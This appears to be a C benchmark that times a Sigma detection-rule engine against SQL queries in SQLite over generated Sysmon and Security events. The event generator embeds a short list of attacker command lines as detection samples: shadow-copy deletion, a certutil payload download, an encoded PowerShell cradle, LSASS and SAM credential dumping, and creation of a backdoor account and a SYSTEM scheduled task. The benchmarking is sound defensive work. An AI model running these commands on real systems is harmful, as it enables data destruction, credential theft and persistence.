/* bench_sigma.c — how fast do ~200 SigmaHQ rules run over N events on one
 * core, and how does that compare with the same rules as SQL over SQLite?
 *
 *   build/bench/bench_sigma [N]      (or SW_BENCH_EVENTS=N; default 10,000,000)
 *   SW_BENCH_RUNS=R (default 3): the median of R runs is reported.
 *
 * Events: a pool of up to 65,536 distinct generated records (Sysmon 1
 * process creation, Security 4688, 4624/4625 logons, Sysmon 3 network
 * connections, with realistic field sets and about 1 in 500 suspicious
 * command lines), walked round-robin until N events have been matched.
 * Generation is not timed; matching is (sw_sigma_set_match per event).
 *
 * Rules: process_creation and builtin/security rules from
 * $SW_SHARED/data/sigma/rules (every k-th file in name order, about 150 +
 * 50), loaded and compiled once.
 *
 * Baseline: the same pool in an in-memory SQLite table (one TEXT column per
 * field), each rule translated to one SELECT count(*) ... WHERE (as
 * SQL-generating Sigma backends do: LIKE for wildcards, COLLATE NOCASE for
 * equality). Rules with parts SQL cannot say (regex, cidr, keywords, utf16
 * bytes) are left out of the SQL side and counted. Both sides run over the
 * same pool in the same process; the ratio compares events per second. The
 * translator reads the compiled rules (sigma_int.h): it is benchmark code,
 * not a product feature. */
#include <math.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "alerts/sigma_load.h"
#include "core/arena.h"
#include "core/buf.h"
#include "core/rng.h"
#include "detect/event.h"
#include "detect/sigma.h"
#include "detect/sigma_int.h"

#define POOL_MAX 65536
#define MAX_COLS 64

/* CPU time of this thread: "on one core" even when the machine is shared
 * (wall-clock figures are printed alongside for the main run). */
static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static double wall_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

/* ---- event generation ---------------------------------------------------------- */

typedef struct pool {
    sw_event_t *ev;
    size_t n;
    sw_arena_t arena;
    const char *cols[MAX_COLS]; /* every field name used, for the SQL table */
    size_t n_cols;
} pool_t;

static const char *const images[] = {
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Windows\\System32\\conhost.exe",
    "C:\\Windows\\System32\\reg.exe",
    "C:\\Windows\\System32\\rundll32.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\taskhostw.exe",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Windows\\System32\\schtasks.exe",
    "C:\\Windows\\System32\\net.exe",
    "C:\\Windows\\System32\\whoami.exe",
    "C:\\Windows\\System32\\certutil.exe",
    "C:\\Windows\\System32\\msiexec.exe",
    "C:\\Windows\\System32\\SearchIndexer.exe",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    "C:\\Windows\\System32\\lsass.exe",
    "C:\\Windows\\System32\\services.exe",
    "C:\\Windows\\System32\\mmc.exe",
    "C:\\Windows\\System32\\notepad.exe",
    "C:\\Windows\\System32\\ipconfig.exe",
    "C:\\Program Files\\7-Zip\\7z.exe",
    "C:\\Windows\\System32\\sc.exe",
    "C:\\Users\\Public\\Downloads\\update.exe",
    "C:\\Windows\\System32\\wscript.exe",
};
static const char *const args[] = {
    "-k netsvcs -p -s Schedule",
    "/c dir C:\\Users",
    "-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
    "--type=renderer --lang=en-US --field-trial-handle=1234",
    "0xffffffff -ForceV1",
    "query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion",
    "shell32.dll,Control_RunDLL desk.cpl",
    "",
    "/create /tn Backup /tr C:\\backup.bat /sc daily",
    "user /domain",
    "/all",
    "/i C:\\Temp\\setup.msi /qn",
    "-Embedding",
    "/c ping 10.0.0.1",
    "a -tzip C:\\Temp\\docs.zip C:\\Users\\alice\\Documents",
    "query state= all",
};
static const char *const evil[] = {
    "vssadmin.exe delete shadows /all /quiet",
    "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
    "powershell.exe -nop -w hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
    "reg.exe save hklm\\sam C:\\Temp\\sam.save",
    "wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"",
    "net.exe user backdoor P@ssw0rd! /add",
    "schtasks.exe /create /sc minute /mo 1 /tn Updater /tr C:\\Users\\Public\\update.exe /ru "
    "SYSTEM",
};
static const char *const users[] = {"CORP\\alice",
                                    "CORP\\bob",
                                    "NT AUTHORITY\\SYSTEM",
                                    "CORP\\carol",
                                    "NT AUTHORITY\\NETWORK SERVICE",
                                    "CORP\\admin"};
static const char *const hosts[] = {"ws01.corp.local", "ws02.corp.local", "dc01.corp.local",
                                    "srv-files.corp.local", "ws17.corp.local"};

static void col_note(pool_t *p, const char *name)
{
    for (size_t i = 0; i < p->n_cols; i++)
        if (!strcmp(p->cols[i], name))
            return;
    if (p->n_cols < MAX_COLS)
        p->cols[p->n_cols++] = name;
}

/* Add a field whose name is a static string and whose value is copied. */
static void put(pool_t *p, sw_event_t *ev, const char *name, const char *value)
{
    sw_field_t *f = &ev->fields[ev->n_fields++];
    size_t vl = strlen(value);
    char *v = sw_arena_strndup(&p->arena, value, vl);
    if (!v) {
        fprintf(stderr, "bench_sigma: out of memory\n");
        exit(1);
    }
    f->name = name;
    f->name_len = (uint32_t)strlen(name);
    f->name_hash = sw_field_hash(name, f->name_len);
    f->value = v;
    f->value_len = (uint32_t)vl;
    f->type = SW_FV_STRING;
    col_note(p, name);
}

#define PICK(r, a) (a[sw_rng_below(r, sizeof a / sizeof a[0])])

static void gen_event(pool_t *p, sw_event_t *ev, sw_rng_t *r, size_t i)
{
    char buf[512], t[128];
    ev->fields = sw_arena_alloc(&p->arena, 32 * sizeof *ev->fields);
    ev->n_fields = 0;
    ev->cap_fields = 32;
    snprintf(t, sizeof t, "2026-03-%02d %02d:%02d:%02d.%03d", (int)(1 + i % 28),
             (int)sw_rng_below(r, 24), (int)sw_rng_below(r, 60), (int)sw_rng_below(r, 60),
             (int)sw_rng_below(r, 1000));
    uint64_t kind = sw_rng_below(r, 100);
    const char *host = PICK(r, hosts);
    const char *img = PICK(r, images);
    const char *base = strrchr(img, '\\') + 1;
    int is_evil = sw_rng_below(r, 500) == 0;
    if (kind < 60) { /* process creation: Sysmon 1 (50) or Security 4688 (10) */
        int sysmon = kind < 50;
        if (is_evil)
            snprintf(buf, sizeof buf, "%s", PICK(r, evil));
        else
            snprintf(buf, sizeof buf, "\"%s\" %s", img, PICK(r, args));
        const char *parent = PICK(r, images);
        if (sysmon) {
            put(p, ev, "Channel", "Microsoft-Windows-Sysmon/Operational");
            put(p, ev, "EventID", "1");
            put(p, ev, "Computer", host);
            put(p, ev, "TimeCreated", t);
            put(p, ev, "UtcTime", t);
            snprintf(t, sizeof t, "{5AA13A44-%04X-68FC-%04X-000000004002}",
                     (unsigned)sw_rng_below(r, 65536), (unsigned)sw_rng_below(r, 65536));
            put(p, ev, "ProcessGuid", t);
            snprintf(t, sizeof t, "%u", (unsigned)sw_rng_range(r, 100, 20000));
            put(p, ev, "ProcessId", t);
            put(p, ev, "Image", img);
            put(p, ev, "FileVersion", "10.0.20348.1 (WinBuild.160101.0800)");
            put(p, ev, "Description", base);
            put(p, ev, "Product", "Microsoft Windows Operating System");
            put(p, ev, "Company", "Microsoft Corporation");
            put(p, ev, "OriginalFileName", base);
            put(p, ev, "CommandLine", buf);
            put(p, ev, "CurrentDirectory", "C:\\Windows\\system32\\");
            put(p, ev, "User", PICK(r, users));
            put(p, ev, "LogonId", "0x3e7");
            put(p, ev, "IntegrityLevel", sw_rng_chance(r, 0.3) ? "High" : "Medium");
            snprintf(t, sizeof t, "SHA256=%016llX%016llX,IMPHASH=%016llX",
                     (unsigned long long)sw_rng_next(r), (unsigned long long)sw_rng_next(r),
                     (unsigned long long)sw_rng_next(r));
            put(p, ev, "Hashes", t);
            put(p, ev, "ParentImage", parent);
            snprintf(buf, sizeof buf, "\"%s\"", parent);
            put(p, ev, "ParentCommandLine", buf);
            put(p, ev, "ParentUser", PICK(r, users));
        } else {
            put(p, ev, "Channel", "Security");
            put(p, ev, "EventID", "4688");
            put(p, ev, "Computer", host);
            put(p, ev, "TimeCreated", t);
            put(p, ev, "SubjectUserName", strchr(PICK(r, users), '\\') + 1);
            put(p, ev, "SubjectDomainName", "CORP");
            put(p, ev, "SubjectLogonId", "0x3e7");
            put(p, ev, "NewProcessId", "0x1a2c");
            put(p, ev, "NewProcessName", img);
            put(p, ev, "TokenElevationType", "%%1936");
            put(p, ev, "ProcessId", "0x2b8");
            put(p, ev, "CommandLine", buf);
            put(p, ev, "ParentProcessName", parent);
            put(p, ev, "MandatoryLabel", "S-1-16-12288");
        }
    } else if (kind < 85) { /* logons */
        put(p, ev, "Channel", "Security");
        put(p, ev, "EventID", sw_rng_chance(r, 0.9) ? "4624" : "4625");
        put(p, ev, "Computer", host);
        put(p, ev, "TimeCreated", t);
        put(p, ev, "SubjectUserSid", "S-1-5-18");
        put(p, ev, "SubjectUserName", "DC01$");
        put(p, ev, "TargetUserName", strchr(PICK(r, users), '\\') + 1);
        put(p, ev, "TargetDomainName", "CORP");
        static const char *const lt[] = {"2", "3", "3", "3", "5", "10", "11"};
        put(p, ev, "LogonType", PICK(r, lt));
        put(p, ev, "LogonProcessName", "NtLmSsp");
        put(p, ev, "AuthenticationPackageName", sw_rng_chance(r, 0.7) ? "Kerberos" : "NTLM");
        put(p, ev, "WorkstationName", strtok(strcpy(buf, host), "."));
        snprintf(t, sizeof t, "10.0.%u.%u", (unsigned)sw_rng_below(r, 8),
                 (unsigned)sw_rng_below(r, 255));
        put(p, ev, "IpAddress", t);
        put(p, ev, "IpPort", "0");
        put(p, ev, "ProcessName", "C:\\Windows\\System32\\lsass.exe");
    } else { /* network connection */
        put(p, ev, "Channel", "Microsoft-Windows-Sysmon/Operational");
        put(p, ev, "EventID", "3");
        put(p, ev, "Computer", host);
        put(p, ev, "TimeCreated", t);
        put(p, ev, "Image", img);
        put(p, ev, "User", PICK(r, users));
        put(p, ev, "Protocol", "tcp");
        put(p, ev, "Initiated", "true");
        snprintf(t, sizeof t, "10.0.%u.%u", (unsigned)sw_rng_below(r, 8),
                 (unsigned)sw_rng_below(r, 255));
        put(p, ev, "SourceIp", t);
        snprintf(t, sizeof t, "%u", (unsigned)sw_rng_range(r, 49152, 65535));
        put(p, ev, "SourcePort", t);
        snprintf(t, sizeof t, "%u.%u.%u.%u", (unsigned)sw_rng_range(r, 1, 223),
                 (unsigned)sw_rng_below(r, 256), (unsigned)sw_rng_below(r, 256),
                 (unsigned)sw_rng_below(r, 256));
        put(p, ev, "DestinationIp", t);
        static const char *const ports[] = {"443", "80", "445", "3389", "53", "8080", "22"};
        put(p, ev, "DestinationPort", PICK(r, ports));
        put(p, ev, "DestinationHostname", "www.example.com");
    }
}

/* ---- rules ------------------------------------------------------------------------ */

static int cmp_str(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Load every step-th rule file of dir (name order), at most want. */
static size_t load_some(sw_sigma_set_t *s, const char *dir, size_t want, size_t step)
{
    char cmd[2048];
    snprintf(cmd, sizeof cmd, "find '%s' -name '*.yml'", dir);
    FILE *f = popen(cmd, "r");
    if (!f)
        return 0;
    char *names[4096], line[1024];
    size_t n = 0, loaded = 0;
    while (n < 4096 && fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = 0;
        names[n++] = strdup(line);
    }
    pclose(f);
    qsort(names, n, sizeof *names, cmp_str);
    for (size_t i = 0; i < n; i++) {
        if (i % step == 0 && loaded < want) {
            char *text;
            size_t len;
            sw_errbuf_t err;
            if (!sw_read_file(names[i], SW_SIGMA_MAX_RULE_BYTES, &text, &len, &err)) {
                loaded += sw_sigma_set_add(s, text, len, names[i], NULL) == SW_OK;
                free(text);
            }
        }
        free(names[i]);
    }
    return loaded;
}

/* ---- SQL translation ------------------------------------------------------------- */

static int col_exists(const pool_t *p, const char *name)
{
    for (size_t i = 0; i < p->n_cols; i++)
        if (!strcasecmp(p->cols[i], name))
            return 1;
    return 0;
}

static int sql_lit(sw_buf_t *b, const uint8_t *s, size_t n, int like)
{
    for (size_t i = 0; i < n; i++) {
        if (s[i] == 0)
            return -1; /* NUL bytes (utf16): not expressible */
        if (s[i] == '\'')
            sw_buf_puts(b, "''");
        else if (like && (s[i] == '%' || s[i] == '_' || s[i] == '\\')) {
            sw_buf_putc(b, '\\');
            sw_buf_putc(b, (char)s[i]);
        } else
            sw_buf_putc(b, (char)s[i]);
    }
    return 0;
}

static int sql_node(const sw_sigma_set_t *s, const pool_t *p, const sigma_node_t *n,
                    const uint32_t *remap, sw_buf_t *b);

static int sql_pat(const pool_t *p, const char *col, const sigma_pat_t *pt, sw_buf_t *b)
{
    int have = col_exists(p, col);
    char c[128];
    snprintf(c, sizeof c, have ? "\"%s\"" : "NULL", col);
    switch (pt->kind) {
    case PM_EQ:
        sw_buf_printf(b, "%s = '", c);
        if (sql_lit(b, pt->lit, pt->lit_len, 0))
            return -1;
        sw_buf_puts(b, pt->cased ? "'" : "' COLLATE NOCASE");
        return 0;
    case PM_PREFIX:
    case PM_SUFFIX:
    case PM_CONTAINS:
        if (pt->cased)
            return -1;
        sw_buf_printf(b, "%s LIKE '%s", c, pt->kind == PM_PREFIX ? "" : "%");
        if (sql_lit(b, pt->lit, pt->lit_len, 1))
            return -1;
        sw_buf_printf(b, "%s' ESCAPE '\\'", pt->kind == PM_SUFFIX ? "" : "%");
        return 0;
    case PM_GLOB:
        if (pt->cased)
            return -1;
        sw_buf_printf(b, "%s LIKE '", c);
        for (uint32_t i = 0; i < pt->sym_len; i++) {
            if (pt->sym[i] == SYM_STAR)
                sw_buf_putc(b, '%');
            else if (pt->sym[i] == SYM_ONE)
                sw_buf_putc(b, '_');
            else {
                uint8_t ch = (uint8_t)pt->sym[i];
                if (sql_lit(b, &ch, 1, 1))
                    return -1;
            }
        }
        sw_buf_puts(b, "' ESCAPE '\\'");
        return 0;
    case PM_EXISTS:
        sw_buf_printf(b, "%s IS %sNULL", c, pt->want ? "NOT " : "");
        return 0;
    case PM_NULL:
        sw_buf_printf(b, "(%s IS NULL OR %s = '')", c, c);
        return 0;
    case PM_NUM: {
        static const char *const ops[] = {"<", "<=", ">", ">="};
        sw_buf_printf(b, "CAST(%s AS REAL) %s %.17g", c, ops[pt->cmp], pt->num);
        return 0;
    }
    default:
        return -1; /* regex, cidr, fieldref */
    }
}

static int sql_node(const sw_sigma_set_t *s, const pool_t *p, const sigma_node_t *n,
                    const uint32_t *remap, sw_buf_t *b)
{
    switch (n->type) {
    case SN_AND:
    case SN_OR:
    case SN_COUNT: {
        if (n->type == SN_COUNT && n->min != 1)
            return -1;
        const char *op = n->type == SN_AND ? " AND " : " OR ";
        sw_buf_putc(b, '(');
        for (uint32_t i = 0; i < n->n_kids; i++) {
            if (i)
                sw_buf_puts(b, op);
            if (sql_node(s, p, n->kids[i], remap, b))
                return -1;
        }
        sw_buf_putc(b, ')');
        return 0;
    }
    case SN_NOT:
        sw_buf_puts(b, "NOT coalesce(");
        if (sql_node(s, p, n->kids[0], remap, b))
            return -1;
        sw_buf_puts(b, ", 0)");
        return 0;
    case SN_FIELD: {
        const char *col = s->fields[remap ? remap[n->field] : n->field].name;
        sw_buf_putc(b, '(');
        for (uint32_t i = 0; i < n->n_pats; i++) {
            if (i)
                sw_buf_puts(b, n->all ? " AND " : " OR ");
            if (sql_pat(p, col, &n->pats[i], b))
                return -1;
        }
        sw_buf_putc(b, ')');
        return 0;
    }
    default:
        return -1;
    }
}

/* The WHERE clause for rule i: its record types ORed, each with the rule's
 * condition under that type's field names. NULL if not expressible. */
static char *sql_rule(sw_sigma_set_t *s, const pool_t *p, size_t i)
{
    const sigma_rule_t *r = s->rules[i];
    sw_buf_t b;
    sw_buf_init(&b, 1 << 24);
    sw_buf_putc(&b, '(');
    for (size_t v = 0; v < r->ls->n_variants; v++) {
        const sigma_variant_t *va = &r->ls->variants[v];
        const uint32_t *remap = NULL;
        for (size_t c = 0; c < s->n_channels; c++)
            for (size_t k = 0; k < s->channels[c].n_buckets; k++)
                for (size_t e = 0; e < s->channels[c].buckets[k].n_entries; e++)
                    if (s->channels[c].buckets[k].entries[e].rule == r &&
                        s->channels[c].buckets[k].entries[e].variant == va)
                        remap = s->channels[c].buckets[k].entries[e].remap;
        if (v)
            sw_buf_puts(&b, " OR ");
        sw_buf_puts(&b, "(1");
        if (va->channel)
            sw_buf_printf(&b, " AND \"Channel\" = '%s'", va->channel);
        if (va->event_ids[0]) {
            sw_buf_puts(&b, " AND event_id IN (");
            for (size_t k = 0; k < 8 && va->event_ids[k]; k++)
                sw_buf_printf(&b, "%s%u", k ? "," : "", va->event_ids[k]);
            sw_buf_putc(&b, ')');
        }
        if (va->extra_field || va->key_field) /* not a Channel/EventID record type */
            return sw_buf_free(&b), NULL;
        sw_buf_puts(&b, " AND ");
        if (sql_node(s, p, r->root, remap, &b))
            return sw_buf_free(&b), NULL;
        sw_buf_putc(&b, ')');
    }
    sw_buf_putc(&b, ')');
    return b.failed ? NULL : sw_buf_take(&b);
}

/* ---- per-rule profile ------------------------------------------------------------ */

typedef struct rcost {
    double t;
    size_t i, hits;
} rcost_t;

static int cmp_cost(const void *a, const void *b)
{
    const rcost_t *x = a, *y = b;
    return x->t < y->t ? 1 : x->t > y->t ? -1 : 0;
}

static void profile_rules(sw_sigma_set_t *s, const pool_t *pool)
{
    size_t n = sw_sigma_set_count(s);
    rcost_t *c = calloc(n, sizeof *c);
    for (size_t i = 0; i < n; i++) {
        const char *file = sw_sigma_set_rule(s, i)->file;
        char *text;
        size_t len;
        sw_errbuf_t err;
        sw_sigma_set_t *one = sw_sigma_set_new(NULL, 0);
        c[i].i = i;
        if (!sw_read_file(file, SW_SIGMA_MAX_RULE_BYTES, &text, &len, &err)) {
            sw_sigma_set_add(one, text, len, file, NULL);
            free(text);
        }
        sw_sigma_set_build(one);
        double a = now_s();
        for (size_t k = 0; k < pool->n; k++)
            c[i].hits += (size_t)sw_sigma_set_match(one, &pool->ev[k], NULL, NULL);
        c[i].t = now_s() - a;
        sw_sigma_set_free(one);
    }
    qsort(c, n, sizeof *c, cmp_cost);
    printf("profile:  the 15 costliest rules alone over the pool (ns/event, matches):\n");
    for (size_t i = 0; i < n && i < 15; i++)
        printf("  %8.1f  %6zu  %s\n", c[i].t / (double)pool->n * 1e9, c[i].hits,
               sw_sigma_set_rule(s, c[i].i)->file);
    free(c);
}

/* ---- main --------------------------------------------------------------------------- */

static void count_cb(const sw_sigma_alert_t *a, void *ud)
{
    (void)a;
    ++*(size_t *)ud;
}

int main(int argc, char **argv)
{
    size_t n_events = 10000000, runs = 3;
    const char *env = getenv("SW_BENCH_EVENTS");
    if (argc > 1)
        n_events = strtoull(argv[1], NULL, 10);
    else if (env && *env)
        n_events = strtoull(env, NULL, 10);
    if ((env = getenv("SW_BENCH_RUNS")) && atoi(env) > 0)
        runs = (size_t)atoi(env);
    if (n_events == 0)
        n_events = 1;
    const char *shared = getenv("SW_SHARED");
    char dir[1024];
    snprintf(dir, sizeof dir, "%s/data/sigma/rules/windows",
             shared && *shared ? shared : "../shared");

    /* rules */
    sw_sigma_set_t *s = sw_sigma_set_new(NULL, 0);
    char d1[1200], d2[1200];
    snprintf(d1, sizeof d1, "%s/process_creation", dir);
    snprintf(d2, sizeof d2, "%s/builtin/security", dir);
    double t0 = now_s();
    size_t n_proc = load_some(s, d1, 150, 8);
    size_t n_sec = load_some(s, d2, 50, 2);
    if (sw_sigma_set_build(s)) {
        fprintf(stderr, "bench_sigma: build failed\n");
        return 1;
    }
    double t_load = now_s() - t0;
    size_t n_rules = sw_sigma_set_count(s);
    if (n_rules < 100) {
        fprintf(stderr, "bench_sigma: only %zu rules loaded from %s (set SW_SHARED)\n", n_rules,
                dir);
        return 1;
    }

    /* events */
    pool_t pool = {0};
    sw_arena_init(&pool.arena, 0);
    size_t pool_max = POOL_MAX; /* SW_BENCH_POOL=n: fewer distinct events */
    if ((env = getenv("SW_BENCH_POOL")) && atoi(env) > 0)
        pool_max = (size_t)atoi(env) < POOL_MAX ? (size_t)atoi(env) : POOL_MAX;
    pool.n = n_events < pool_max ? n_events : pool_max;
    pool.ev = calloc(pool.n, sizeof *pool.ev);
    sw_rng_t rng;
    sw_rng_init(&rng, 42, "bench_sigma", 0);
    for (size_t i = 0; i < pool.n; i++)
        gen_event(&pool, &pool.ev[i], &rng, i);

    printf("bench_sigma: %zu rules (%zu process_creation, %zu security) loaded and compiled in "
           "%.3f s\n",
           n_rules, n_proc, n_sec, t_load);
    printf("bench_sigma: %zu events (%zu distinct, generated in memory), %zu runs, one core\n",
           n_events, pool.n, runs);

    /* sigma, N events, median of runs */
    double *times = calloc(runs, sizeof *times), *walls = calloc(runs, sizeof *walls);
    size_t matches = 0;
    for (size_t r = 0; r < runs; r++) {
        matches = 0;
        double a = now_s(), w = wall_s();
        for (size_t i = 0, j = 0; i < n_events; i++, j = j + 1 == pool.n ? 0 : j + 1)
            sw_sigma_set_match(s, &pool.ev[j], count_cb, &matches);
        times[r] = now_s() - a;
        walls[r] = wall_s() - w;
    }
    qsort(times, runs, sizeof *times, cmp_double);
    qsort(walls, runs, sizeof *walls, cmp_double);
    double med = times[runs / 2];
    printf("sigma:    %.3f s CPU for %zu events x %zu rules (median of %zu; min %.3f, max %.3f; "
           "wall median %.3f s) = %.2f M events/s, %zu matches\n",
           med, n_events, n_rules, runs, times[0], times[runs - 1], walls[runs / 2],
           (double)n_events / med / 1e6, matches);

    /* the same pool: sigma with and without the pre-filter, for the SQL comparison */
    size_t pool_matches = 0;
    double a = now_s();
    for (size_t i = 0; i < pool.n; i++)
        sw_sigma_set_match(s, &pool.ev[i], count_cb, &pool_matches);
    double t_pool = now_s() - a;
    sw_sigma_set_prefilter(s, 0);
    size_t nopf_matches = 0;
    a = now_s();
    for (size_t i = 0; i < pool.n; i++)
        sw_sigma_set_match(s, &pool.ev[i], count_cb, &nopf_matches);
    double t_nopf = now_s() - a;
    sw_sigma_set_prefilter(s, 1);
    printf("sigma:    pool of %zu events: %.4f s with pre-filter, %.4f s without (%.1fx); "
           "matches %zu / %zu\n",
           pool.n, t_pool, t_nopf, t_nopf / t_pool, pool_matches, nopf_matches);

    /* SQL baseline over the same pool */
    sqlite3 *db;
    sqlite3_open(":memory:", &db);
    sw_buf_t sql;
    sw_buf_init(&sql, 0);
    sw_buf_puts(&sql, "CREATE TABLE events(id INTEGER PRIMARY KEY, event_id INTEGER");
    for (size_t c = 0; c < pool.n_cols; c++)
        sw_buf_printf(&sql, ", \"%s\" TEXT", pool.cols[c]);
    sw_buf_puts(&sql, ")");
    sqlite3_exec(db, sw_buf_str(&sql), NULL, NULL, NULL);
    sw_buf_reset(&sql);
    sw_buf_puts(&sql, "INSERT INTO events VALUES(?, ?");
    for (size_t c = 0; c < pool.n_cols; c++)
        sw_buf_puts(&sql, ", ?");
    sw_buf_puts(&sql, ")");
    sqlite3_stmt *ins;
    sqlite3_prepare_v2(db, sw_buf_str(&sql), -1, &ins, NULL);
    sqlite3_exec(db, "BEGIN", NULL, NULL, NULL);
    for (size_t i = 0; i < pool.n; i++) {
        sqlite3_reset(ins);
        sqlite3_clear_bindings(ins);
        sqlite3_bind_int64(ins, 1, (sqlite3_int64)i);
        const sw_field_t *eid = sw_event_get(&pool.ev[i], "EventID");
        sqlite3_bind_int64(ins, 2, eid ? atoll(eid->value) : 0);
        for (size_t c = 0; c < pool.n_cols; c++) {
            const sw_field_t *f = sw_event_get(&pool.ev[i], pool.cols[c]);
            if (f)
                sqlite3_bind_text(ins, (int)c + 3, f->value, (int)f->value_len, SQLITE_STATIC);
        }
        sqlite3_step(ins);
    }
    sqlite3_exec(db, "COMMIT", NULL, NULL, NULL);
    sqlite3_finalize(ins);
    sqlite3_exec(db, "CREATE INDEX ev_eid ON events(event_id)", NULL, NULL, NULL);

    size_t n_sql = 0, sql_matches = 0, sql_errors = 0;
    double t_sql = 0;
    for (size_t i = 0; i < n_rules; i++) {
        char *where = sql_rule(s, &pool, i);
        if (!where)
            continue;
        sw_buf_reset(&sql);
        sw_buf_printf(&sql, "SELECT count(*) FROM events WHERE %s", where);
        free(where);
        sqlite3_stmt *st;
        if (sqlite3_prepare_v2(db, sw_buf_str(&sql), -1, &st, NULL) != SQLITE_OK) {
            sql_errors++;
            continue;
        }
        n_sql++;
        a = now_s();
        if (sqlite3_step(st) == SQLITE_ROW)
            sql_matches += (size_t)sqlite3_column_int64(st, 0);
        t_sql += now_s() - a;
        sqlite3_finalize(st);
    }
    sw_buf_free(&sql);
    sqlite3_close(db);
    double sigma_eps = (double)n_events / med, sql_eps = (double)pool.n / t_sql;
    printf("sql:      %zu of %zu rules translated to SQL WHERE (%zu failed to prepare); "
           "%.3f s over the %zu-event pool = %.3f M events/s, %zu matches\n",
           n_sql, n_rules, sql_errors, t_sql, pool.n, sql_eps / 1e6, sql_matches);
    printf("sql:      at that rate %zu events would take %.1f s\n", n_events,
           (double)n_events / sql_eps);
    printf("ratio:    sigma (%zu rules) is %.1fx faster than SQL (%zu rules) per event\n", n_rules,
           sigma_eps / sql_eps, n_sql);

    if (getenv("SW_BENCH_PROFILE")) /* which rules cost the most, alone over the pool */
        profile_rules(s, &pool);

    free(times);
    free(walls);
    free(pool.ev);
    sw_arena_free(&pool.arena);
    sw_sigma_set_free(s);
    return 0;
}
